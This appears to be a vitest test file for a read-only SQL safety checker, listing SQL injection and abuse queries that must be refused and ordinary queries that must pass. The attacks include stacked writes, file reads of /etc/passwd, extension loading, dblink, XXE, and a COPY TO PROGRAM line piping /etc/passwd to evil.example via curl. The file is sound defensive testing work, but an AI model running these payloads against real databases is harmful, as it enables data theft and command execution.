import { describe, expect, it } from "vitest";
import { QueryRejectedError, QuerySyntaxError } from "@/lib/backends/errors";
import { checkSqlSafety, type SqlDialect } from "@/lib/backends/sql";

type Attack = { name: string; query: string; reason: RegExp; error?: typeof QueryRejectedError | typeof QuerySyntaxError };

/**
 * The attack corpus of the SQL check: every attempt must be refused before anything runs, with a
 * message that tells the reader why. Most are QueryRejectedError; a few are texts no grammar reads,
 * refused as QuerySyntaxError (never let through). The engines' own walls are tested against real
 * servers in tests/integration/backends/sql-*.test.ts.
 */
const COMMON_ATTACKS: Attack[] = [
  { name: "two statements", query: "SELECT 1; DELETE FROM singer", reason: /single SELECT statement.*holds 2 statements/ },
  { name: "write after a line comment", query: "SELECT 1; -- harmless\nDELETE FROM singer", reason: /holds 2 statements/ },
  {
    name: "write after a line comment, semicolon on the next line",
    query: "SELECT 1 -- x\n; DROP TABLE singer",
    reason: /holds 2 statements/,
  },
  { name: "write after a block comment", query: "/* report */ SELECT 1 /* ; */ ; UPDATE singer SET Age = 0", reason: /holds 2 statements/ },
  {
    name: "write hidden behind a comment opener in a string",
    query: "SELECT '/*'; DELETE FROM singer; -- */",
    reason: /holds 2 statements/,
  },
  { name: "three statements", query: "SELECT 1; SELECT 2; SELECT 3", reason: /holds 3 statements/ },
  { name: "INSERT", query: "INSERT INTO singer (Name) VALUES ('x')", reason: /INSERT is not allowed/ },
  { name: "UPDATE", query: "UPDATE singer SET Age = 1", reason: /UPDATE is not allowed/ },
  { name: "DELETE", query: "DELETE FROM singer", reason: /DELETE is not allowed/ },
  { name: "DROP TABLE", query: "DROP TABLE singer", reason: /DROP is not allowed/ },
  { name: "CREATE TABLE AS SELECT", query: "CREATE TABLE copy AS SELECT * FROM singer", reason: /CREATE is not allowed/ },
  { name: "ALTER TABLE", query: "ALTER TABLE singer ADD COLUMN x int", reason: /ALTER is not allowed/ },
  { name: "write after a leading comment", query: "-- SELECT * FROM singer\nDELETE FROM singer", reason: /DELETE is not allowed/ },
  { name: "comment-wrapped keyword", query: "/* SELECT */ DROP TABLE singer", reason: /DROP is not allowed/ },
  { name: "transaction control", query: "BEGIN", reason: /BEGIN is not allowed/ },
  { name: "EXPLAIN of a write", query: "EXPLAIN DELETE FROM singer", reason: /EXPLAIN is not allowed/ },
  { name: "subquery in INSERT … SELECT", query: "INSERT INTO singer SELECT * FROM singer", reason: /INSERT is not allowed/ },
];

const SQLITE_ATTACKS: Attack[] = [
  { name: "ATTACH", query: "ATTACH DATABASE '/tmp/evil.sqlite' AS evil", reason: /ATTACH is not allowed/ },
  { name: "DETACH", query: "DETACH DATABASE main", reason: /DETACH is not allowed/ },
  { name: "PRAGMA write", query: "PRAGMA query_only = OFF", reason: /PRAGMA is not allowed/ },
  { name: "PRAGMA journal mode", query: "PRAGMA journal_mode = DELETE", reason: /PRAGMA is not allowed/ },
  { name: "PRAGMA after a SELECT", query: "SELECT 1; PRAGMA writable_schema = ON", reason: /holds 2 statements/ },
  { name: "VACUUM INTO", query: "VACUUM INTO '/tmp/copy.sqlite'", reason: /VACUUM is not allowed/ },
  { name: "REPLACE INTO", query: "REPLACE INTO singer (Singer_ID) VALUES (1)", reason: /REPLACE is not allowed/ },
  { name: "INSERT OR REPLACE", query: "INSERT OR REPLACE INTO singer (Singer_ID) VALUES (1)", reason: /INSERT is not allowed/ },
  { name: "CREATE TEMP TABLE", query: "CREATE TEMP TABLE t AS SELECT 1", reason: /CREATE is not allowed/ },
  {
    name: "write inside a CTE",
    query: "WITH d AS (DELETE FROM singer RETURNING *) SELECT * FROM d",
    reason: /WITH clause may only hold SELECT queries, and this one holds DELETE/,
  },
  { name: "load_extension", query: "SELECT load_extension('/tmp/evil.so')", reason: /load_extension\(\) is not allowed/ },
  {
    name: "load_extension in a subquery",
    query: "SELECT Name FROM singer WHERE Age > (SELECT load_extension('x'))",
    reason: /load_extension\(\) is not allowed/,
  },
  { name: "readfile", query: "SELECT readfile('/etc/passwd')", reason: /readfile\(\) is not allowed/ },
  { name: "writefile", query: "SELECT writefile('/tmp/x', 'pwned')", reason: /writefile\(\) is not allowed/ },
  { name: "edit", query: "SELECT edit('text', 'vi')", reason: /edit\(\) is not allowed/ },
  { name: "fts3_tokenizer", query: "SELECT fts3_tokenizer('simple', x'00')", reason: /fts3_tokenizer\(\) is not allowed/ },
  { name: "fsdir table function", query: "SELECT name FROM fsdir('/etc')", reason: /fsdir\(\) is not allowed/ },
  { name: "quoted function name", query: "SELECT \"LOAD_EXTENSION\"('x')", reason: /load_extension\(\) is not allowed/ },
  // node-sql-parser's SQLite grammar reads `#` as a comment and `\'` as an escaped quote; SQLite reads neither.
  { name: "hash 'comment' the engine does not have", query: "SELECT 1 # ; DELETE FROM singer", reason: /holds 2 statements/ },
  {
    name: "backslash 'escape' the engine does not have",
    query: "SELECT 'a\\', load_extension('x') --'",
    reason: /load_extension\(\) is not allowed/,
  },
  // SQLite ends a block comment at the first */ (no nesting), so the DELETE is real there.
  { name: "nested-comment trick", query: "SELECT 1 /* /* */ ; DELETE FROM singer; -- */", reason: /holds 2 statements/ },
  {
    name: "bracket identifiers are not read by the parser",
    query: "SELECT [Name] FROM singer",
    reason: /unexpected "\[" at line 1, column 8/,
    error: QuerySyntaxError,
  },
];

const POSTGRES_ATTACKS: Attack[] = [
  { name: "COPY … TO PROGRAM", query: "COPY singer TO PROGRAM 'curl http://evil.example -d @/etc/passwd'", reason: /COPY is not allowed/ },
  { name: "COPY (query) TO PROGRAM", query: "COPY (SELECT * FROM singer) TO PROGRAM 'id'", reason: /COPY is not allowed/ },
  { name: "COPY FROM a file", query: "COPY singer FROM '/etc/passwd'", reason: /COPY is not allowed/ },
  { name: "COPY after a SELECT", query: "SELECT 1; COPY singer TO '/tmp/x'", reason: /holds 2 statements/ },
  {
    name: "DELETE inside a CTE",
    query: "WITH gone AS (DELETE FROM singer WHERE true RETURNING *) SELECT * FROM gone",
    reason: /WITH clause may only hold SELECT.*DELETE/,
  },
  {
    name: "UPDATE inside a CTE",
    query: "WITH u AS (UPDATE singer SET Age = 0 RETURNING *) SELECT count(*) FROM u",
    reason: /WITH clause may only hold SELECT.*UPDATE/,
  },
  {
    name: "INSERT inside a CTE",
    query: "WITH i AS (INSERT INTO singer (Name) VALUES ('x') RETURNING *) SELECT * FROM i",
    reason: /WITH clause may only hold SELECT.*INSERT/,
  },
  { name: "SELECT INTO (creates a table)", query: "SELECT * INTO stolen FROM singer", reason: /SELECT … INTO creates a table/ },
  { name: "row locks", query: "SELECT * FROM singer FOR UPDATE", reason: /row locks \(FOR UPDATE \/ FOR SHARE\) are not allowed/ },
  { name: "SET a setting", query: "SET statement_timeout = 0", reason: /SET is not allowed/ },
  { name: "RESET", query: "RESET ALL", reason: /RESET is not allowed/ },
  { name: "DO block", query: "DO $$ BEGIN DELETE FROM singer; END $$", reason: /DO is not allowed/ },
  { name: "CALL a procedure", query: "CALL cleanup()", reason: /CALL is not allowed/ },
  { name: "LOCK TABLE", query: "LOCK TABLE singer", reason: /LOCK is not allowed/ },
  { name: "NOTIFY", query: "NOTIFY channel, 'x'", reason: /NOTIFY is not allowed/ },
  { name: "PREPARE", query: "PREPARE p AS DELETE FROM singer", reason: /PREPARE is not allowed/ },
  { name: "pg_read_file", query: "SELECT pg_read_file('/etc/passwd')", reason: /pg_read_file\(\) is not allowed/ },
  {
    name: "schema-qualified pg_read_file in FROM",
    query: "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')",
    reason: /pg_read_file\(\) is not allowed/,
  },
  { name: "pg_read_binary_file", query: "SELECT pg_read_binary_file('/etc/shadow')", reason: /pg_read_binary_file\(\) is not allowed/ },
  { name: "pg_ls_dir", query: "SELECT pg_ls_dir('.')", reason: /pg_ls_dir\(\) is not allowed/ },
  { name: "lo_import", query: "SELECT (SELECT lo_import('/etc/passwd'))", reason: /lo_import\(\) is not allowed/ },
  { name: "lo_export", query: "SELECT lo_export(1234, '/tmp/x')", reason: /lo_export\(\) is not allowed/ },
  { name: "dblink", query: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", reason: /dblink\(\) is not allowed/ },
  { name: "dblink_exec", query: "SELECT dblink_exec('dbname=x', 'DROP TABLE singer')", reason: /dblink_exec\(\) is not allowed/ },
  {
    name: "pg_terminate_backend",
    query: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    reason: /pg_terminate_backend\(\) is not allowed/,
  },
  {
    name: "pg_cancel_backend in a UNION",
    query: "SELECT 1 UNION SELECT pg_cancel_backend(42)",
    reason: /pg_cancel_backend\(\) is not allowed/,
  },
  { name: "set_config", query: "SELECT set_config('statement_timeout', '0', false)", reason: /set_config\(\) is not allowed/ },
  { name: "nextval", query: "SELECT nextval('singer_id_seq')", reason: /nextval\(\) is not allowed/ },
  { name: "setval in WHERE", query: "SELECT * FROM singer WHERE setval('s', 1) > 0", reason: /setval\(\) is not allowed/ },
  { name: "advisory lock", query: "SELECT pg_advisory_lock(1)", reason: /pg_advisory_lock\(\) is not allowed/ },
  { name: "try advisory lock", query: "SELECT pg_try_advisory_xact_lock(1)", reason: /pg_try_advisory_xact_lock\(\) is not allowed/ },
  { name: "txid_current", query: "SELECT txid_current()", reason: /txid_current\(\) is not allowed/ },
  { name: "pg_notify", query: "SELECT pg_notify('ch', 'x')", reason: /pg_notify\(\) is not allowed/ },
  {
    name: "query_to_xml runs SQL text",
    query: "SELECT query_to_xml('DELETE FROM singer', true, false, '')",
    reason: /query_to_xml\(\) is not allowed/,
  },
  { name: "pg_reload_conf", query: "SELECT pg_reload_conf()", reason: /pg_reload_conf\(\) is not allowed/ },
  { name: "quoted upper-case function name", query: "SELECT \"PG_READ_FILE\"('/etc/passwd')", reason: /pg_read_file\(\) is not allowed/ },
  {
    name: "dollar-quoted body hiding nothing still holds a refused call",
    query: "SELECT $$x$$, pg_ls_dir('/')",
    reason: /pg_ls_dir\(\) is not allowed/,
  },
];

/**
 * Issue 16: functions that run SQL text of their own, reach files, other servers or other sessions,
 * change settings or do maintenance. Each is refused by the allow-list with its name, wherever it hides.
 */
const POSTGRES_ALLOW_LIST_ATTACKS: Attack[] = [
  {
    name: "ts_stat runs SQL given as a string",
    query: "SELECT * FROM ts_stat('SELECT to_tsvector(pg_terminate_backend(pid)::text) FROM pg_stat_activity')",
    reason: /ts_stat\(\) is not allowed/,
  },
  {
    name: "ts_stat calling set_config",
    query: "SELECT * FROM ts_stat($$SELECT to_tsvector(set_config('statement_timeout','0',false))$$)",
    reason: /ts_stat\(\) is not allowed/,
  },
  {
    name: "ts_stat calling pg_notify",
    query: "SELECT word FROM ts_stat('SELECT to_tsvector(pg_notify(''c'', ''x'')::text)') LIMIT 1",
    reason: /ts_stat\(\) is not allowed/,
  },
  {
    name: "ts_rewrite runs SQL given as a string",
    query: "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery FROM pg_sleep(1)')",
    reason: /ts_rewrite\(\) is not allowed/,
  },
  {
    name: "ts_stat in a CTE",
    query: "WITH w AS (SELECT * FROM ts_stat('SELECT 1')) SELECT * FROM w",
    reason: /ts_stat\(\) is not allowed/,
  },
  {
    name: "ts_stat in a LATERAL join",
    query: "SELECT * FROM singer, LATERAL ts_stat('SELECT 1') AS t",
    reason: /ts_stat\(\) is not allowed/,
  },
  { name: "ts_stat in ROWS FROM", query: "SELECT * FROM ROWS FROM (ts_stat('SELECT 1'))", reason: /ts_stat\(\) is not allowed/ },
  {
    name: "ts_stat in a scalar subquery in ORDER BY",
    query: "SELECT name FROM singer ORDER BY (SELECT count(*) FROM ts_stat('SELECT 1'))",
    reason: /ts_stat\(\) is not allowed/,
  },
  {
    name: "query_to_xml_and_xmlschema",
    query: "SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')",
    reason: /query_to_xml_and_xmlschema\(\) is not allowed/,
  },
  { name: "cursor_to_xml", query: "SELECT cursor_to_xml('c', 1, true, false, '')", reason: /cursor_to_xml\(\) is not allowed/ },
  { name: "table_to_xml", query: "SELECT table_to_xml('singer', true, false, '')", reason: /table_to_xml\(\) is not allowed/ },
  { name: "xpath over a document", query: "SELECT xpath('/a', '<a/>'::xml)", reason: /xpath\(\) is not allowed/ },
  {
    name: "XMLPARSE",
    query: "SELECT XMLPARSE(DOCUMENT '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>')",
    reason: /XML functions are not allowed/,
  },
  {
    name: "dblink_exec commits elsewhere",
    query: "SELECT dblink_exec('dbname=shop', 'DELETE FROM customer')",
    reason: /dblink_exec\(\) is not allowed/,
  },
  {
    name: "dblink in FROM",
    query: "SELECT * FROM dblink('dbname=shop', 'DELETE FROM customer RETURNING 1') AS t(x int)",
    reason: /dblink\(\) is not allowed/,
  },
  {
    name: "pg_terminate_backend in WHERE",
    query: "SELECT name FROM singer WHERE pg_terminate_backend(42)",
    reason: /pg_terminate_backend\(\) is not allowed/,
  },
  {
    name: "set_config in a CASE",
    query: "SELECT CASE WHEN age > 1 THEN set_config('search_path', 'x', false) END FROM singer",
    reason: /set_config\(\) is not allowed/,
  },
  { name: "pg_read_file with a schema", query: "SELECT pg_catalog.pg_read_file('/etc/passwd')", reason: /pg_read_file\(\) is not allowed/ },
  {
    name: "pg_ls_dir in a window argument",
    query: "SELECT count(*) OVER (PARTITION BY pg_ls_dir('.')) FROM singer",
    reason: /pg_ls_dir\(\) is not allowed/,
  },
  {
    name: "lo_import in an aggregate FILTER",
    query: "SELECT count(*) FILTER (WHERE lo_import('/etc/passwd') > 0) FROM singer",
    reason: /lo_import\(\) is not allowed/,
  },
  { name: "lo_get", query: "SELECT lo_get(16385)", reason: /lo_get\(\) is not allowed/ },
  {
    name: "gin_clean_pending_list (maintenance)",
    query: "SELECT gin_clean_pending_list('singer_name_gin'::regclass)",
    reason: /gin_clean_pending_list\(\) is not allowed/,
  },
  {
    name: "brin_summarize_new_values (maintenance)",
    query: "SELECT brin_summarize_new_values('idx')",
    reason: /brin_summarize_new_values\(\) is not allowed/,
  },
  {
    name: "brin_desummarize_range (maintenance)",
    query: "SELECT brin_desummarize_range('idx', 0)",
    reason: /brin_desummarize_range\(\) is not allowed/,
  },
  {
    name: "brin_summarize_range (maintenance)",
    query: "SELECT brin_summarize_range('idx', 0)",
    reason: /brin_summarize_range\(\) is not allowed/,
  },
  {
    name: "pg_sleep (a query should not hold a connection on purpose)",
    query: "SELECT pg_sleep(60)",
    reason: /pg_sleep\(\) is not allowed/,
  },
  {
    name: "current_setting reads server settings",
    query: "SELECT current_setting('data_directory')",
    reason: /current_setting\(\) is not allowed/,
  },
  { name: "repeat builds huge values", query: "SELECT repeat('x', 300000000)", reason: /repeat\(\) is not allowed/ },
  {
    name: "generate_series as a row bomb",
    query: "SELECT count(*) FROM generate_series(1, 10000000000)",
    reason: /generate_series\(\) is not allowed/,
  },
  { name: "an unknown function of the schema", query: "SELECT forget_customers()", reason: /forget_customers\(\) is not allowed/ },
  {
    name: "a schema-qualified function of the KB",
    query: "SELECT public.forget_customers()",
    reason: /public\.forget_customers\(\) is not allowed; only built-in functions/,
  },
  { name: "an allowed name in another schema", query: "SELECT evil.lower(name) FROM singer", reason: /evil\.lower\(\) is not allowed/ },
  { name: "an operator of another schema", query: "SELECT 1 OPERATOR(public.+) 1", reason: /operator public\.\+ is not allowed/ },
  { name: "an unknown operator", query: "SELECT name FROM singer WHERE name @@ 'x'", reason: /operator @@ is not allowed/ },
  { name: "cast to regclass (catalog look-up)", query: "SELECT 'pg_authid'::regclass", reason: /casting to regclass is not allowed/ },
  { name: "cast to regproc", query: "SELECT CAST('pg_read_file' AS regproc)", reason: /casting to regproc is not allowed/ },
  {
    name: "cast to an extension's type",
    query: "SELECT name::public.citext FROM singer",
    reason: /casting to public\.citext is not allowed/,
  },
  { name: "pg_authid (password hashes)", query: "SELECT rolname, rolpassword FROM pg_authid", reason: /pg_authid is a system catalog/ },
  {
    name: "pg_shadow through pg_catalog",
    query: "SELECT * FROM pg_catalog.pg_shadow",
    reason: /pg_catalog\.pg_shadow is a system catalog/,
  },
  {
    name: "pg_stat_activity (other sessions' queries)",
    query: "SELECT query FROM pg_stat_activity",
    reason: /pg_stat_activity is a system catalog/,
  },
  {
    name: "pg_settings (file paths)",
    query: "SELECT setting FROM pg_settings WHERE name = 'data_directory'",
    reason: /pg_settings is a system catalog/,
  },
  {
    name: "information_schema",
    query: "SELECT * FROM information_schema.role_table_grants",
    reason: /information_schema\.role_table_grants is a system catalog/,
  },
  {
    name: "system catalog in a subquery",
    query: "SELECT name FROM singer WHERE EXISTS (SELECT 1 FROM pg_user)",
    reason: /pg_user is a system catalog/,
  },
  { name: "TABLE pg_authid", query: "TABLE pg_authid", reason: /pg_authid is a system catalog/ },
  { name: "another database", query: "SELECT * FROM otherdb.public.singer", reason: /names another database/ },
  { name: "CURRENT_USER", query: "SELECT CURRENT_USER", reason: /CURRENT_USER is not allowed/ },
  { name: "a query parameter", query: "SELECT name FROM singer WHERE age = $1", reason: /query parameter/ },
  { name: "TABLESAMPLE", query: "SELECT * FROM singer TABLESAMPLE SYSTEM (10)", reason: /TABLESAMPLE are not allowed/ },
  {
    name: "SELECT INTO inside a UNION branch",
    query: "SELECT * INTO t2 FROM singer UNION SELECT * FROM singer",
    reason: /SELECT … INTO creates a table/,
  },
  { name: "FOR SHARE", query: "SELECT * FROM singer FOR SHARE", reason: /row locks/ },
  { name: "MERGE", query: "MERGE INTO singer s USING singer t ON s.id = t.id WHEN MATCHED THEN DELETE", reason: /MERGE is not allowed/ },
  { name: "VACUUM", query: "VACUUM singer", reason: /VACUUM is not allowed/ },
  { name: "DECLARE a cursor", query: "DECLARE c CURSOR FOR SELECT 1", reason: /DECLARE is not allowed/ },
];

const SQLITE_ALLOW_LIST_ATTACKS: Attack[] = [
  { name: "zeroblob builds huge values", query: "SELECT hex(zeroblob(500000000))", reason: /zeroblob\(\) is not allowed/ },
  { name: "randomblob", query: "SELECT randomblob(1000000000)", reason: /randomblob\(\) is not allowed/ },
  { name: "pragma_database_list shows file paths", query: "SELECT file FROM pragma_database_list", reason: /pragma_database_list/ },
  { name: "pragma_table_info as a table function", query: "SELECT * FROM pragma_table_info('singer')", reason: /pragma_table_info/ },
  { name: "dbstat reads raw pages", query: "SELECT * FROM dbstat", reason: /dbstat is not allowed/ },
  { name: "sqlite_dbpage", query: "SELECT data FROM sqlite_dbpage", reason: /sqlite_dbpage is not allowed/ },
  { name: "sqlite_compileoption_get", query: "SELECT sqlite_compileoption_get(0)", reason: /sqlite_compileoption_get\(\) is not allowed/ },
  { name: "changes()", query: "SELECT changes()", reason: /changes\(\) is not allowed/ },
  {
    name: "an unknown function in a subquery",
    query: "SELECT Name FROM singer WHERE Age > (SELECT evil(1))",
    reason: /evil\(\) is not allowed/,
  },
  {
    name: "an unknown function in HAVING",
    query: "SELECT Country FROM singer GROUP BY Country HAVING unknown_fn(count(*)) > 1",
    reason: /unknown_fn\(\) is not allowed/,
  },
  {
    name: "readfile in a CTE",
    query: "WITH f AS (SELECT readfile('/etc/passwd') AS x) SELECT x FROM f",
    reason: /readfile\(\) is not allowed/,
  },
];

async function expectRefused(dialect: SqlDialect, attack: Attack) {
  const error = attack.error ?? QueryRejectedError;
  let thrown: unknown = null;
  try {
    await checkSqlSafety(attack.query, dialect);
  } catch (e) {
    thrown = e;
  }
  expect(thrown, `${attack.name} was accepted`).toBeInstanceOf(error);
  expect((thrown as Error).message).toMatch(attack.reason);
  expect((thrown as { query: string }).query).toBe(attack.query);
}

describe("SQL safety check: attack corpus", () => {
  describe.each(["sqlite", "postgres"] as const)("%s: attacks common to both engines", (dialect) => {
    it.each(COMMON_ATTACKS.map((a) => [a.name, a] as const))("refuses %s", (_, attack) => expectRefused(dialect, attack));
  });
  describe("sqlite", () => {
    it.each(SQLITE_ATTACKS.map((a) => [a.name, a] as const))("refuses %s", (_, attack) => expectRefused("sqlite", attack));
  });
  describe("postgres", () => {
    it.each(POSTGRES_ATTACKS.map((a) => [a.name, a] as const))("refuses %s", (_, attack) => expectRefused("postgres", attack));
  });
  describe("postgres: only allowed functions, operators, casts and tables", () => {
    it.each(POSTGRES_ALLOW_LIST_ATTACKS.map((a) => [a.name, a] as const))("refuses %s", (_, attack) => expectRefused("postgres", attack));
  });
  describe("sqlite: only allowed functions and tables", () => {
    it.each(SQLITE_ALLOW_LIST_ATTACKS.map((a) => [a.name, a] as const))("refuses %s", (_, attack) => expectRefused("sqlite", attack));
  });

  it("says why in words a person can act on", async () => {
    await expect(checkSqlSafety("DELETE FROM singer", "sqlite")).rejects.toThrow(
      "Query refused: only a single SELECT statement may run, and DELETE is not allowed.",
    );
    await expect(checkSqlSafety("   -- nothing here\n", "sqlite")).rejects.toThrow(QuerySyntaxError);
    await expect(checkSqlSafety("SELECT FROM WHERE", "postgres")).rejects.toThrow(
      /could not be parsed: syntax error at or near "WHERE" \(line 1, column 12\)\. Write one standard SELECT statement\./,
    );
    await expect(checkSqlSafety("SELECT ts_stat('x')", "postgres")).rejects.toThrow(
      "Query refused: the function ts_stat() is not allowed; queries may call only the aggregate, text, date, number, JSON and window functions questions need.",
    );
  });
});

/** Legitimate read-only queries, in the shapes text-to-SQL produces. */
const READS: { name: string; query: string; dialects: SqlDialect[] }[] = [
  { name: "plain SELECT", query: "SELECT Name, Country FROM singer", dialects: ["sqlite", "postgres"] },
  {
    name: "WHERE, ORDER BY … DESC, LIMIT",
    query: "SELECT Name FROM singer WHERE Age > 30 ORDER BY Age DESC LIMIT 3",
    dialects: ["sqlite", "postgres"],
  },
  { name: "LIMIT … OFFSET", query: "SELECT * FROM singer LIMIT 5 OFFSET 10", dialects: ["sqlite", "postgres"] },
  {
    name: "aggregates with GROUP BY and HAVING",
    query: "SELECT Country, count(*), avg(Age), max(Age) FROM singer GROUP BY Country HAVING count(*) > 1",
    dialects: ["sqlite", "postgres"],
  },
  {
    name: "joins with aliases",
    query:
      "SELECT T2.Name, T3.concert_Name FROM singer_in_concert AS T1 JOIN singer AS T2 ON T1.Singer_ID = T2.Singer_ID LEFT JOIN concert AS T3 ON T1.concert_ID = T3.concert_ID",
    dialects: ["sqlite", "postgres"],
  },
  { name: "scalar subquery", query: "SELECT Name FROM singer WHERE Age = (SELECT max(Age) FROM singer)", dialects: ["sqlite", "postgres"] },
  {
    name: "IN and EXISTS subqueries",
    query: "SELECT Name FROM stadium WHERE Stadium_ID IN (SELECT Stadium_ID FROM concert) AND EXISTS (SELECT 1 FROM singer)",
    dialects: ["sqlite", "postgres"],
  },
  {
    name: "derived table",
    query: "SELECT s.c FROM (SELECT Country AS c, count(*) AS n FROM singer GROUP BY Country) AS s WHERE s.n > 1",
    dialects: ["sqlite", "postgres"],
  },
  { name: "CTE", query: "WITH old AS (SELECT * FROM singer WHERE Age > 40) SELECT Name FROM old", dialects: ["sqlite", "postgres"] },
  {
    name: "recursive CTE",
    query: "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 10) SELECT sum(x) FROM c",
    dialects: ["sqlite", "postgres"],
  },
  {
    name: "window function",
    query: "SELECT Name, rank() OVER (PARTITION BY Country ORDER BY Age DESC) AS r FROM singer",
    dialects: ["sqlite", "postgres"],
  },
  { name: "UNION", query: "SELECT Name FROM singer UNION SELECT Name FROM stadium", dialects: ["sqlite", "postgres"] },
  // node-sql-parser's SQLite grammar lacks INTERSECT/EXCEPT; the PostgreSQL grammar reads them.
  {
    name: "INTERSECT (Spider gold)",
    query: "SELECT country FROM singer WHERE age > 40 INTERSECT SELECT country FROM singer WHERE age < 30",
    dialects: ["sqlite", "postgres"],
  },
  {
    name: "EXCEPT (Spider gold)",
    query:
      "SELECT name FROM stadium EXCEPT SELECT T2.name FROM concert AS T1 JOIN stadium AS T2 ON T1.stadium_id = T2.stadium_id WHERE T1.year = 2014",
    dialects: ["sqlite", "postgres"],
  },
  {
    name: "CASE, CAST, LIKE, BETWEEN",
    query:
      "SELECT CASE WHEN Age > 40 THEN 'old' ELSE 'young' END, CAST(Age AS REAL) FROM singer WHERE Name LIKE 'J%' AND Age BETWEEN 20 AND 60",
    dialects: ["sqlite", "postgres"],
  },
  { name: "DISTINCT", query: "SELECT DISTINCT Country FROM singer", dialects: ["sqlite", "postgres"] },
  {
    name: "SQLite date and text functions",
    query: "SELECT strftime('%Y', born), group_concat(Name, ', '), substr(Name, 1, 3) FROM singer GROUP BY 1",
    dialects: ["sqlite"],
  },
  {
    name: "a string that only looks dangerous",
    query: "SELECT Name FROM singer WHERE Name = 'x; DELETE FROM singer; --'",
    dialects: ["sqlite", "postgres"],
  },
  { name: "a column named like a function", query: "SELECT load_extension_count FROM stats", dialects: ["sqlite"] },
  {
    name: "PostgreSQL text, numbers, conditionals and windows",
    query:
      "SELECT initcap(name), round(avg(age)::numeric, 1), coalesce(nullif(country, ''), 'unknown'), greatest(1, 2), rank() OVER (ORDER BY age), lag(age) OVER w FROM singer GROUP BY name, country, age WINDOW w AS (ORDER BY age)",
    dialects: ["postgres"],
  },
  {
    name: "PostgreSQL CASE, BETWEEN, IN, IS DISTINCT FROM, arrays",
    query:
      "SELECT CASE WHEN age BETWEEN 20 AND 30 THEN 'young' END, age IN (1, 2), age IS DISTINCT FROM 3, array_length(ARRAY[1, 2], 1), unnest(ARRAY['a']) FROM singer",
    dialects: ["postgres"],
  },
  {
    name: "PostgreSQL SQL-syntax functions (EXTRACT, TRIM, SUBSTRING, POSITION, AT TIME ZONE)",
    query:
      "SELECT EXTRACT(month FROM d), TRIM(BOTH ' ' FROM name), SUBSTRING(name FROM 1 FOR 3), POSITION('a' IN name), d AT TIME ZONE 'UTC', CURRENT_DATE FROM singer",
    dialects: ["postgres"],
  },
  {
    name: "PostgreSQL JSON look-ups",
    query: "SELECT prefs->>'newsletter', prefs #>> '{a,b}', jsonb_typeof(prefs) FROM customer WHERE prefs ? 'newsletter'",
    dialects: ["postgres"],
  },
  {
    name: "SQLite window, math and JSON functions",
    query:
      "SELECT Name, row_number() OVER (PARTITION BY Country ORDER BY Age), round(Age / 3.0, 2), abs(-Age), json_extract(prefs, '$.a'), ifnull(Country, '?'), iif(Age > 30, 'old', 'young') FROM singer",
    dialects: ["sqlite"],
  },
  { name: "SQLite table named like a keyword (Spider: FROM show)", query: "SELECT avg(Attendance) FROM SHOW", dialects: ["sqlite"] },
  {
    name: "PostgreSQL casts, ILIKE, DISTINCT ON",
    query: "SELECT DISTINCT ON (country) name, age::int FROM singer WHERE name ILIKE '%a%' ORDER BY country, age",
    dialects: ["postgres"],
  },
  {
    name: "PostgreSQL FILTER and string_agg",
    query: "SELECT country, count(*) FILTER (WHERE age > 30), string_agg(name, ', ') FROM singer GROUP BY country",
    dialects: ["postgres"],
  },
  {
    name: "PostgreSQL dates",
    query: "SELECT extract(year FROM placed), date_trunc('month', placed) FROM orders WHERE placed > now() - interval '1 year'",
    dialects: ["postgres"],
  },
  { name: "PostgreSQL dollar-quoted text holding a semicolon", query: "SELECT $$a; DELETE FROM singer$$ AS text", dialects: ["postgres"] },
  {
    name: "PostgreSQL nested comment holding a semicolon",
    query: "SELECT 1 /* outer /* inner */ ; DELETE FROM singer; */ AS one",
    dialects: ["postgres"],
  },
];

describe("SQL safety check: legitimate reads", () => {
  for (const dialect of ["sqlite", "postgres"] as const) {
    it.each(READS.filter((r) => r.dialects.includes(dialect)).map((r) => [r.name, r.query] as const))(
      `${dialect}: accepts %s`,
      async (_, query) => {
        const checked = await checkSqlSafety(query, dialect);
        expect(checked.normalized).toBe(query.trim());
      },
    );
  }

  it("cuts trailing semicolons and comments off the statement the engine runs", async () => {
    expect((await checkSqlSafety("SELECT 1;", "postgres")).normalized).toBe("SELECT 1");
    expect((await checkSqlSafety("  SELECT Name FROM singer ; -- done\n", "postgres")).normalized).toBe("SELECT Name FROM singer");
    expect((await checkSqlSafety("/* why */ SELECT 1 /* trailing */;;", "sqlite")).normalized).toBe("SELECT 1");
    expect((await checkSqlSafety("SELECT 'a;b' AS x; /* c */", "sqlite")).normalized).toBe("SELECT 'a;b' AS x");
  });

  it("says which table the rows come from when that is plain from the query, in both dialects", async () => {
    for (const dialect of ["sqlite", "postgres"] as const) {
      expect((await checkSqlSafety("SELECT Name, Age FROM singer WHERE Age > 30", dialect)).source?.table).toBe("singer");
      expect((await checkSqlSafety("SELECT count(*) FROM singer", dialect)).source).toBeNull();
      expect((await checkSqlSafety("SELECT s.Name FROM singer s JOIN concert c ON c.id = s.id", dialect)).source).toBeNull();
      expect((await checkSqlSafety("SELECT count(*) FROM singer", dialect)).fromTable).toBe("singer");
    }
  });
});
